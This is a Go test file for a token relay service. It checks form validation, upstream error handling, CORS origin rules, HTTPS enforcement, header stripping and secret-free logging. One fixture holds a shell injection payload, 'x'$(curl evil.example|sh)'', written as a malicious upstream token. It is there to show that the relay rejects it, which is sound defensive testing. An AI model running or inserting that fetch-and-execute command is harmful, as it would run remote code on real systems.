//go:build !(js && wasm)

package relay

import (
	"tokendesk/worker/message"

	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// upstream is a scripted stand-in for the API, recording what it received.
type upstream struct {
	*httptest.Server
	mu       sync.Mutex
	requests []received
	answer   func(w http.ResponseWriter, r *http.Request)
}

type received struct {
	header        http.Header
	contentLength int64
	chunked       bool
	body          string
	path          string
}

func newUpstream(t testing.TB, answer func(w http.ResponseWriter, r *http.Request)) *upstream {
	u := &upstream{answer: answer}
	u.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		u.mu.Lock()
		u.requests = append(u.requests, received{r.Header.Clone(), r.ContentLength, len(r.TransferEncoding) > 0, string(body), r.URL.Path})
		u.mu.Unlock()
		r.Body = io.NopCloser(bytes.NewReader(body))
		u.answer(w, r)
	}))
	t.Cleanup(u.Close)
	return u
}

func (u *upstream) count() int {
	u.mu.Lock()
	defer u.mu.Unlock()
	return len(u.requests)
}

const okBody = `{"result": {"token": "4520efa4-ee63-4a6d-a585-091dc338ee28"}}`

func answerJSON(status int, body string) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		io.WriteString(w, body)
	}
}

var validForm = url.Values{"name": {"Ann Lee"}, "mail": {"ann@example.com"}, "comment": {"for Unreal"}}.Encode()

type request struct {
	method, target, contentType, body string
	header                            map[string]string
}

func (q request) do(t *testing.T, h http.Handler) *httptest.ResponseRecorder {
	t.Helper()
	method := q.method
	if method == "" {
		method = http.MethodPost
	}
	target := q.target
	if target == "" {
		target = "http://localhost:8787/auth/token"
	}
	r := httptest.NewRequest(method, target, strings.NewReader(q.body))
	if strings.HasPrefix(target, "http") {
		u, _ := url.Parse(target)
		r.Host = u.Host
		r.URL.Scheme = u.Scheme
	}
	if q.contentType != "" {
		r.Header.Set("Content-Type", q.contentType)
	} else if method == http.MethodPost {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for k, v := range q.header {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

type wireError struct {
	Error struct {
		Code     string          `json:"code"`
		Message  string          `json:"message"`
		Field    string          `json:"field"`
		Upstream json.RawMessage `json:"upstream"`
	} `json:"error"`
}

func decodeError(t *testing.T, w *httptest.ResponseRecorder) wireError {
	t.Helper()
	var e wireError
	if err := json.Unmarshal(w.Body.Bytes(), &e); err != nil {
		t.Fatalf("body is not the error shape: %q", w.Body.String())
	}
	if e.Error.Code == "" || e.Error.Message == "" {
		t.Fatalf("error without code or message: %q", w.Body.String())
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/json" {
		t.Fatalf("error Content-Type = %q", ct)
	}
	return e
}

func multipartBody(t *testing.T, fields [][2]string) (string, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for _, f := range fields {
		mw.WriteField(f[0], f[1])
	}
	mw.Close()
	return mw.FormDataContentType(), b.String()
}

func TestRelay(t *testing.T) {
	mpType, mpBody := multipartBody(t, [][2]string{{"name", "Ann"}, {"mail", "ann@example.com"}})
	tests := []struct {
		name         string
		upstream     func(http.ResponseWriter, *http.Request)
		config       Config
		req          request
		wantStatus   int
		wantCode     string
		wantField    string
		wantUpstream bool // whether the upstream must have been called
		wantHeader   map[string]string
	}{
		{name: "valid urlencoded", req: request{body: validForm}, wantStatus: 200, wantUpstream: true},
		{name: "valid multipart", req: request{contentType: mpType, body: mpBody}, wantStatus: 200, wantUpstream: true},
		{name: "query string ignored", req: request{target: "http://localhost:8787/auth/token?name=x&mail=y", body: validForm}, wantStatus: 200, wantUpstream: true},
		{name: "charset parameter accepted", req: request{contentType: "application/x-www-form-urlencoded; charset=UTF-8", body: validForm}, wantStatus: 200, wantUpstream: true},

		{name: "missing name", req: request{body: "mail=a%40b.io"}, wantStatus: 400, wantCode: "field_required", wantField: "name"},
		{name: "invalid mail", req: request{body: "name=A&mail=nope"}, wantStatus: 400, wantCode: "field_invalid", wantField: "mail"},
		{name: "duplicated mail", req: request{body: "name=A&mail=a%40b.io&mail=c%40d.io"}, wantStatus: 400, wantCode: "field_duplicated", wantField: "mail"},
		{name: "comment too long", req: request{body: "name=A&mail=a%40b.io&comment=" + strings.Repeat("x", 1001)}, wantStatus: 400, wantCode: "field_too_long", wantField: "comment"},
		{name: "bad urlencoding", req: request{body: "name=%zz"}, wantStatus: 400, wantCode: "bad_form"},
		{name: "json body", req: request{contentType: "application/json", body: `{"name":"A"}`}, wantStatus: 415, wantCode: "unsupported_media_type"},
		{name: "no content type", req: request{contentType: " ", body: validForm}, wantStatus: 415, wantCode: "unsupported_media_type"},
		{name: "body over 8 KiB", req: request{body: "name=A&mail=a%40b.io&comment=" + strings.Repeat("x", 9000)}, wantStatus: 413, wantCode: "body_too_large"},
		{name: "GET", req: request{method: "GET"}, wantStatus: 405, wantCode: "method_not_allowed", wantHeader: map[string]string{"Allow": "POST, OPTIONS"}},
		{name: "PUT", req: request{method: "PUT", body: validForm}, wantStatus: 405, wantCode: "method_not_allowed", wantHeader: map[string]string{"Allow": "POST, OPTIONS"}},
		{name: "other path", req: request{target: "http://localhost:8787/auth/token2", body: validForm}, wantStatus: 404, wantCode: "not_found"},
		{name: "open proxy attempt", req: request{target: "http://localhost:8787/v1/anything", body: validForm}, wantStatus: 404, wantCode: "not_found"},

		{name: "upstream 5xx", upstream: answerJSON(503, `{"error":{"code":503,"message":"down"}}`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_failed", wantUpstream: true},
		{name: "upstream 504 html", upstream: answerJSON(504, `<html>Gateway Timeout</html>`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_failed", wantUpstream: true},
		{name: "upstream malformed", upstream: answerJSON(200, `{"result": {"tok`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
		{name: "upstream wrong shape", upstream: answerJSON(200, `{"result": {}}`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
		{name: "upstream token not text", upstream: answerJSON(200, `{"result": {"token": "a b"}}`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
		{name: "upstream token not a UUID", upstream: answerJSON(200, `{"result": {"token": "x'$(curl evil.example|sh)'"}}`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
		{name: "upstream token a UUID with a tail", upstream: answerJSON(200, `{"result": {"token": "4520efa4-ee63-4a6d-a585-091dc338ee28'"}}`), req: request{body: validForm},
			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
		{name: "upstream redirect not followed", upstream: func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://elsewhere.example/", http.StatusFound)
		},
			req: request{body: validForm}, wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
		{name: "upstream 429", upstream: answerJSON(429, `{"error":{"code":429,"message":"Too many requests"}}`), req: request{body: validForm},
			wantStatus: 429, wantCode: "upstream_rejected", wantUpstream: true},
		{name: "upstream 400", upstream: answerJSON(400, `{"error":{"code":400,"message":"bad mail"}}`), req: request{body: validForm},
			wantStatus: 400, wantCode: "upstream_rejected", wantUpstream: true},
		{name: "upstream drops connection", upstream: func(w http.ResponseWriter, r *http.Request) {
			conn, _, _ := w.(http.Hijacker).Hijack()
			conn.Close()
		}, req: request{body: validForm}, wantStatus: 502, wantCode: "upstream_unreachable", wantUpstream: true},
		{name: "upstream timeout", upstream: func(w http.ResponseWriter, r *http.Request) {
			select {
			case <-r.Context().Done():
			case <-time.After(5 * time.Second):
			}
		}, config: Config{UpstreamTimeout: "100ms"}, req: request{body: validForm}, wantStatus: 504, wantCode: "upstream_timeout", wantUpstream: true},

		{name: "https upstream required", config: Config{UpstreamURL: "http://api.metahumansdk.io"}, req: request{body: validForm},
			wantStatus: 500, wantCode: "config_error"},
		{name: "bad timeout", config: Config{UpstreamTimeout: "soon"}, req: request{body: validForm}, wantStatus: 500, wantCode: "config_error"},
		{name: "wildcard origin refused in config", config: Config{AllowedOrigins: "*"}, req: request{body: validForm}, wantStatus: 500, wantCode: "config_error"},
		{name: "config error even for GET", config: Config{UpstreamURL: "ftp://x"}, req: request{method: "GET"}, wantStatus: 500, wantCode: "config_error"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			answer := tt.upstream
			if answer == nil {
				answer = answerJSON(200, okBody)
			}
			up := newUpstream(t, answer)
			cfg := tt.config
			if cfg.UpstreamURL == "" {
				cfg.UpstreamURL = up.URL
			}
			var logs []LogEntry
			rl := &Relay{Config: cfg, Log: func(_ *message.Request, e LogEntry) { logs = append(logs, e) }}
			w := tt.req.do(t, rl)

			if w.Code != tt.wantStatus {
				t.Fatalf("status = %d, want %d; body %s", w.Code, tt.wantStatus, w.Body)
			}
			if called := up.count() > 0; called != tt.wantUpstream {
				t.Fatalf("upstream called = %v, want %v", called, tt.wantUpstream)
			}
			if w.Code == 200 {
				if w.Body.String() != okBody {
					t.Fatalf("body = %q, want the upstream's verbatim", w.Body)
				}
			} else {
				e := decodeError(t, w)
				if e.Error.Code != tt.wantCode || e.Error.Field != tt.wantField {
					t.Fatalf("error = %s/%s, want %s/%s", e.Error.Code, e.Error.Field, tt.wantCode, tt.wantField)
				}
			}
			if cc := w.Header().Get("Cache-Control"); cc != "no-store" {
				t.Errorf("Cache-Control = %q, want no-store", cc)
			}
			for k, v := range tt.wantHeader {
				if got := w.Header().Get(k); got != v {
					t.Errorf("header %s = %q, want %q", k, got, v)
				}
			}
			if len(logs) != 1 || logs[0].Status != w.Code {
				t.Fatalf("logs = %+v, want one entry with status %d", logs, w.Code)
			}
			// A config error's cause is for the operator's log, not the client.
			if tt.wantCode == "config_error" && (logs[0].Detail == "" || strings.Contains(w.Body.String(), logs[0].Detail) ||
				strings.Contains(w.Body.String(), "UPSTREAM")) {
				t.Errorf("config error: log detail %q, client got %s", logs[0].Detail, w.Body)
			}
		})
	}
}

func TestRelaySendsExactlyTheFormWithFixedLength(t *testing.T) {
	up := newUpstream(t, answerJSON(200, okBody))
	rl := &Relay{Config: Config{UpstreamURL: up.URL}, Log: func(*message.Request, LogEntry) {}}
	body := validForm + "&token=steal&admin=1"
	w := request{body: body, header: map[string]string{
		"Cookie": "session=secret", "Origin": "http://localhost:8787", "CF-Connecting-IP": "203.0.113.9",
		"Authorization": "Bearer x", "X-Forwarded-For": "203.0.113.9",
	}}.do(t, rl)
	if w.Code != 200 {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	got := up.requests[0]
	if got.chunked || got.contentLength != int64(len(got.body)) {
		t.Fatalf("upstream body chunked=%v length=%d for %d bytes; want a fixed length", got.chunked, got.contentLength, len(got.body))
	}
	values, _ := url.ParseQuery(got.body)
	if len(values) != 3 || values.Get("name") != "Ann Lee" || values.Get("mail") != "ann@example.com" || values.Get("comment") != "for Unreal" {
		t.Fatalf("upstream form = %v", values)
	}
	if ct := got.header.Get("Content-Type"); ct != "application/x-www-form-urlencoded" {
		t.Fatalf("upstream Content-Type %q", ct)
	}
	for _, h := range []string{"Cookie", "Origin", "Cf-Connecting-Ip", "Authorization", "X-Forwarded-For"} {
		if v := got.header.Get(h); v != "" {
			t.Errorf("client header %s forwarded: %q", h, v)
		}
	}
}

// TestCORS is in the style of rs/cors: each case is a request and the
// headers it must and must not get.
func TestCORS(t *testing.T) {
	up := newUpstream(t, answerJSON(200, okBody))
	cfg := Config{UpstreamURL: up.URL, AllowedOrigins: "https://docs.example.com, https://gitbook.example.io"}
	tests := []struct {
		name       string
		method     string
		origin     string
		headers    map[string]string
		wantStatus int
		wantHeader map[string]string
	}{
		{"same origin post", "POST", "http://localhost:8787", nil, 200, map[string]string{"Access-Control-Allow-Origin": "", "Vary": "Origin"}},
		{"no origin post", "POST", "", nil, 200, map[string]string{"Access-Control-Allow-Origin": ""}},
		{"allowed origin post", "POST", "https://docs.example.com", nil, 200,
			map[string]string{"Access-Control-Allow-Origin": "https://docs.example.com", "Vary": "Origin"}},
		{"allowed origin preflight", "OPTIONS", "https://gitbook.example.io",
			map[string]string{"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}, 204,
			map[string]string{"Access-Control-Allow-Origin": "https://gitbook.example.io", "Vary": "Origin",
				"Access-Control-Allow-Methods": "POST", "Access-Control-Max-Age": corsMaxAge}},
		{"foreign origin post", "POST", "https://evil.example", nil, 403, map[string]string{"Access-Control-Allow-Origin": ""}},
		{"foreign origin preflight", "OPTIONS", "https://evil.example", map[string]string{"Access-Control-Request-Method": "POST"}, 403,
			map[string]string{"Access-Control-Allow-Origin": "", "Access-Control-Allow-Methods": ""}},
		{"null origin", "POST", "null", nil, 403, nil},
		{"null origin from a cross-site form", "POST", "null", map[string]string{"Sec-Fetch-Site": "cross-site"}, 403, nil},
		{"null origin from our own no-referrer form", "POST", "null", map[string]string{"Sec-Fetch-Site": "same-origin"}, 200,
			map[string]string{"Access-Control-Allow-Origin": ""}},
		{"origin differing only by scheme", "POST", "https://localhost:8787", nil, 403, nil},
		{"allowed-origin prefix trick", "POST", "https://docs.example.com.evil.example", nil, 403, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := up.count()
			headers := map[string]string{"Origin": tt.origin}
			for k, v := range tt.headers {
				headers[k] = v
			}
			rl := &Relay{Config: cfg, Log: func(*message.Request, LogEntry) {}}
			w := request{method: tt.method, body: validForm, header: headers}.do(t, rl)
			if w.Code != tt.wantStatus {
				t.Fatalf("status %d, want %d: %s", w.Code, tt.wantStatus, w.Body)
			}
			for k, v := range tt.wantHeader {
				if got := w.Header().Get(k); got != v {
					t.Errorf("%s = %q, want %q", k, got, v)
				}
			}
			if w.Header().Get("Access-Control-Allow-Origin") == "*" {
				t.Error("answered with a wildcard origin")
			}
			if w.Code == 403 {
				if decodeError(t, w).Error.Code != "origin_forbidden" || up.count() != before {
					t.Error("a forbidden origin must get origin_forbidden and send nothing upstream")
				}
			}
		})
	}
}

func TestHTTPS(t *testing.T) {
	up := newUpstream(t, answerJSON(200, okBody))
	rl := &Relay{Config: Config{UpstreamURL: up.URL}, Log: func(*message.Request, LogEntry) {}}
	tests := []struct {
		name, method, target string
		wantStatus           int
		wantLocation         string
	}{
		{"http GET redirects", "GET", "http://tokens.example.com/auth/token?x=1", 308, "https://tokens.example.com/auth/token?x=1"},
		{"http HEAD redirects", "HEAD", "http://tokens.example.com/anything", 308, "https://tokens.example.com/anything"},
		{"http POST refused", "POST", "http://tokens.example.com/auth/token", 403, ""},
		{"https POST relayed", "POST", "https://tokens.example.com/auth/token", 200, ""},
		{"loopback http allowed", "POST", "http://127.0.0.1:8787/auth/token", 200, ""},
		{"ipv6 loopback http allowed", "POST", "http://[::1]:8787/auth/token", 200, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := up.count()
			w := request{method: tt.method, target: tt.target, body: validForm}.do(t, rl)
			if w.Code != tt.wantStatus {
				t.Fatalf("status %d, want %d: %s", w.Code, tt.wantStatus, w.Body)
			}
			if got := w.Header().Get("Location"); got != tt.wantLocation {
				t.Errorf("Location = %q, want %q", got, tt.wantLocation)
			}
			if w.Code == 403 {
				if decodeError(t, w).Error.Code != "https_required" || up.count() != before {
					t.Error("plain http POST must get https_required and send nothing")
				}
			}
		})
	}
}

func TestUpstreamErrorsCarryUpstreamJSON(t *testing.T) {
	up := newUpstream(t, answerJSON(429, `{"error": {"code": 429, "message": "Too many requests"}}`))
	rl := &Relay{Config: Config{UpstreamURL: up.URL}, Log: func(*message.Request, LogEntry) {}}
	e := decodeError(t, request{body: validForm}.do(t, rl))
	if string(e.Error.Upstream) != `{"error":{"code":429,"message":"Too many requests"}}` {
		t.Fatalf("upstream = %s", e.Error.Upstream)
	}
	if !strings.Contains(e.Error.Message, "Too many requests") {
		t.Fatalf("message %q does not quote the upstream", e.Error.Message)
	}
}

func TestHTMLAnswersForPlainFormPosts(t *testing.T) {
	browserAccept := "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
	up := newUpstream(t, answerJSON(200, okBody))
	rl := &Relay{Config: Config{UpstreamURL: up.URL}, Log: func(*message.Request, LogEntry) {}}

	w := request{body: validForm, header: map[string]string{"Accept": browserAccept}}.do(t, rl)
	if w.Code != 200 || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/html") ||
		!strings.Contains(w.Body.String(), `value="4520efa4-ee63-4a6d-a585-091dc338ee28"`) ||
		!strings.Contains(w.Body.String(), "cannot be retrieved again") {
		t.Fatalf("token page: %d %s\n%s", w.Code, w.Header(), w.Body)
	}
	if w.Header().Get("Cache-Control") != "no-store" {
		t.Fatal("token page must not be stored")
	}

	w = request{body: "name=%3Cb%3EAnn&mail=nope&comment=kept", header: map[string]string{"Accept": browserAccept}}.do(t, rl)
	page := w.Body.String()
	if w.Code != 400 || !strings.Contains(page, `value="&lt;b&gt;Ann"`) || !strings.Contains(page, ">kept</textarea>") ||
		!strings.Contains(page, `value="nope"`) || strings.Contains(page, "<b>Ann") {
		t.Fatalf("error page must keep the escaped values: %d\n%s", w.Code, page)
	}
	for _, accept := range []string{"", "*/*", "application/json", "application/json, text/html;q=0.5"} {
		w := request{body: validForm, header: map[string]string{"Accept": accept}}.do(t, rl)
		if w.Header().Get("Content-Type") != "application/json" {
			t.Errorf("Accept %q got %s", accept, w.Header().Get("Content-Type"))
		}
	}
}

func TestLogsHoldNoSecrets(t *testing.T) {
	up := newUpstream(t, answerJSON(200, okBody))
	var buf bytes.Buffer
	rl := &Relay{Config: Config{UpstreamURL: up.URL}, Log: func(_ *message.Request, e LogEntry) { buf.WriteString(e.JSON() + "\n") }}
	request{body: validForm}.do(t, rl)
	request{body: "name=Ann+Lee&mail=bad-mail"}.do(t, rl)
	logs := buf.String()
	for _, secret := range []string{"4520efa4", "ann@example.com", "Ann", "bad-mail", "Unreal"} {
		if strings.Contains(logs, secret) {
			t.Errorf("logs contain %q:\n%s", secret, logs)
		}
	}
	lines := strings.Split(strings.TrimSpace(logs), "\n")
	if len(lines) != 2 {
		t.Fatalf("want one line per request:\n%s", logs)
	}
	type entry struct {
		Method         string   `json:"method"`
		Path           string   `json:"path"`
		Status         int      `json:"status"`
		UpstreamStatus *int     `json:"upstream_status"`
		Code           string   `json:"code"`
		DurationMS     *float64 `json:"duration_ms"`
	}
	var ok, bad entry
	if json.Unmarshal([]byte(lines[0]), &ok) != nil || json.Unmarshal([]byte(lines[1]), &bad) != nil {
		t.Fatalf("log lines are not JSON:\n%s", logs)
	}
	if ok.Method != "POST" || ok.Path != "/auth/token" || ok.Status != 200 || ok.UpstreamStatus == nil || *ok.UpstreamStatus != 200 || ok.DurationMS == nil {
		t.Errorf("success line: %s", lines[0])
	}
	if bad.Status != 400 || bad.UpstreamStatus != nil || bad.Code != "field_invalid" {
		t.Errorf("refusal line: %s", lines[1])
	}
}

func TestLogEntryJSON(t *testing.T) {
	e := LogEntry{Method: "POST", Path: "/a\"b", Status: 504, UpstreamStatus: 0, Code: "upstream_timeout", Duration: 10260 * time.Microsecond, Colo: "FRA", Version: "v1"}
	want := `{"method":"POST","path":"/a\"b","status":504,"upstream_status":null,"code":"upstream_timeout","duration_ms":10.3,"colo":"FRA","version":"v1"}`
	if got := e.JSON(); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}
